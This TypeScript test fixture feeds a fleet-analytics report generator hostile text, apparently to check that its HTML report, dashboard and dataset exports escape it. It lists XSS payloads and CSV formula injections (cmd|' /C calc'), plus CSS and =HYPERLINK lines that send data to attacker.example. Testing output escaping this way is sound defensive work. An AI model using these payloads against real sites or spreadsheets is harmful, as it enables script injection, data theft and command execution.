/**
 * A hostile fleet: every text an account or a run controls carries an attack. Each payload that
 * could run script calls `__pwned(<id>)`, so a test counts executions by id; the rest are
 * spreadsheet formulas, bidi overrides and 100 kB strings. The FleetReport is made by the real
 * analysis (buildFleetReport) from FleetData and specialists' SIGNALS documents, so the texts
 * reach REPORT.html, the dashboard and the dataset rows the way real fleet text does.
 */
import { buildFleetReport } from '../../shared/analysis/build-fleet-report.js';
import type { ActorData } from '../../shared/contracts/fleet-data.js';
import { fleetReportSchema, type FleetReport } from '../../shared/contracts/fleet-report.js';
import { SPECIALISTS, type SignalInput } from '../../shared/contracts/signals.js';
import {
    dayRange,
    makeActorData,
    makeDay,
    makeFleetData,
    makeSampledRun,
    makeStats,
    TEST_WINDOW,
} from '../../shared/testing/fleet-data-builder.js';

export interface HostilePayload {
    id: number;
    kind: string;
    text: string;
}

const HUNDRED_KB = 100_000;

const TEMPLATES: [kind: string, make: (id: number) => string][] = [
    ['script tag', (id) => `<script>__pwned(${id})</script>`],
    ['img onerror', (id) => `<img src=x onerror="__pwned(${id})">`],
    ['</style> breakout', (id) => `</style><script>__pwned(${id})</script><style>`],
    ['</title> + svg onload', (id) => `</title></textarea><svg onload=__pwned(${id})>`],
    ['attribute breakout', (id) => `" onmouseover="__pwned(${id})" autofocus onfocus="__pwned(${id})" x="`],
    ['single-quote breakout', (id) => `' onclick='__pwned(${id})' x='`],
    ['iframe srcdoc', (id) => `"><iframe srcdoc="<script>parent.__pwned(${id})</script>"></iframe>`],
    ['javascript: URL', (id) => `javascript:__pwned(${id})`],
    ['javascript: link', (id) => `<a href="javascript:__pwned(${id})">docs</a>`],
    ['markdown link trick', (id) => `[Console](javascript:__pwned(${id})) ![x](x" onerror="__pwned(${id}))`],
    ['data: URL', (id) => `<a href="data:text/html,<script>__pwned(${id})</script>">open</a>`],
    ['template literal', (id) => `\${__pwned(${id})} {{constructor.constructor('__pwned(${id})')()}}`],
    ['CSS exfiltration', (id) => `<style>body{background:url(https://attacker.example/${id})}</style>`],
    ['bidi override', (id) => `\u202Etxt.exe\u202C \u2066<b onclick=__pwned(${id})>x</b>\u2069`],
    ['=HYPERLINK formula', () => `=HYPERLINK("https://attacker.example/?d="&A1,"Click for details")`],
    ['+cmd formula', () => `+cmd|' /C calc'!A0`],
    ['-formula', () => `-2+3+cmd|' /C calc'!A0`],
    ['@formula', () => `@SUM(1+1)*cmd|' /C calc'!A0`],
    ['tab formula', () => `\t=1+1`],
    ['CR formula', () => `\r=1+1`],
    ['100 kB string', (id) => `${'A'.repeat(HUNDRED_KB)}<script>__pwned(${id})</script>`],
    ['100 kB bidi string', (id) => `${'\u202E'.repeat(HUNDRED_KB / 10)}<img src=x onerror=__pwned(${id})>`],
];

export const HOSTILE_PAYLOADS: HostilePayload[] = TEMPLATES.map(([kind, make], index) => ({
    id: index + 1,
    kind,
    text: make(index + 1),
}));

/** Fits a payload into a field of `max` characters, keeping its attack (the end) when cut. */
function fit(text: string, max: number): string {
    return text.length <= max ? text : text.slice(text.length - max);
}

/** One SIGNALS document per specialist; each signal carries payloads in every free-text field. */
function hostileSignals(actors: ActorData[]): unknown[] {
    return SPECIALISTS.map((specialist, specialistIndex) => {
        const signals: SignalInput[] = actors.map((actorData, index) => {
            const payload = HOSTILE_PAYLOADS[(index + specialistIndex) % HOSTILE_PAYLOADS.length]!;
            return {
                fingerprint: `${specialist}:hostile-text:${actorData.actor.id}`,
                kind: 'hostile-text',
                source: specialist,
                actorId: actorData.actor.id,
                actorName: actorData.actor.name,
                severity: index % 2 === 0 ? 'high' : 'medium',
                decision: index % 3 === 0 ? 'act_now' : 'monitor',
                // Dataset field names (schema-validator), README text (compliance-scanner), ...
                title: fit(`Dataset field "${payload.text}" is missing from the schema`, 300),
                detail: fit(`README says: ${payload.text}`, 4000),
                metric: { name: fit(payload.text, 80), value: 1, baseline: 0, unit: fit(payload.text, 20) },
                evidence: {
                    runIds: [fit(payload.text, 100)],
                    buildNumbers: [fit(payload.text, 40)],
                    notes: [fit(payload.text, 300), fit(`status message: ${payload.text}`, 300)],
                },
                scoreImpact: { component: 'reliability', points: 5 },
                usdPerMonth: 1,
                fix: fit(`Open ${payload.text} and fix it`, 4000),
                labels: { [fit(payload.text, 40)]: fit(payload.text, 40) },
            };
        });
        return {
            schemaVersion: 1,
            specialist,
            runId: `run-${specialist}`,
            generatedAt: TEST_WINDOW.to,
            window: { ...TEST_WINDOW },
            actorIds: actors.map((a) => a.actor.id),
            status: 'complete',
            errors: [{ actorId: null, message: fit(HOSTILE_PAYLOADS[specialistIndex]!.text, 1000) }],
            signals,
        };
    });
}

/** One Actor per payload: title, descriptions, build version and run status messages hostile. */
export function buildHostileFleetReport(): FleetReport {
    const days = dayRange('2025-03-28', 14);
    const actors = HOSTILE_PAYLOADS.map((payload) => {
        const id = `hostile${String(payload.id).padStart(10, '0')}`;
        const build = payload.text;
        return makeActorData(
            id,
            days.map((day, index) =>
                makeDay(day, {
                    [build]: makeStats({
                        succeeded: 5,
                        failed: index % 4 === 0 ? 3 : 0,
                        costUsd: 0.05,
                        durationsSecs: [30, 60],
                    }),
                }),
            ),
            {
                actor: {
                    name: `hostile-user/actor-${payload.id}`,
                    title: payload.text,
                    seoTitle: payload.text,
                    seoDescription: payload.text,
                    notice: payload.text,
                },
                sampledRuns: [
                    makeSampledRun(`${id}-run-failed`, {
                        status: 'FAILED',
                        exitCode: 1,
                        statusMessage: payload.text,
                        buildNumber: build,
                    }),
                ],
            },
        );
    });
    const fleetData = makeFleetData(actors, { account: { username: 'hostile-user', userId: 'user-hostile' } });
    const report = buildFleetReport({
        fleetData,
        signalDocuments: hostileSignals(actors),
        specialistRuns: SPECIALISTS.map((name) => ({
            name,
            runId: `run-${name}`,
            status: 'succeeded' as const,
            actorIds: actors.map((a) => a.actor.id),
        })),
        generatedAt: TEST_WINDOW.to,
        isDemo: false,
        trendStore: { name: 'fleet-analytics-trends', mode: 'named', note: null },
        alert: { status: 'not-configured', attempts: 0, signalCount: 0, error: null },
    });
    return fleetReportSchema.parse(report);
}
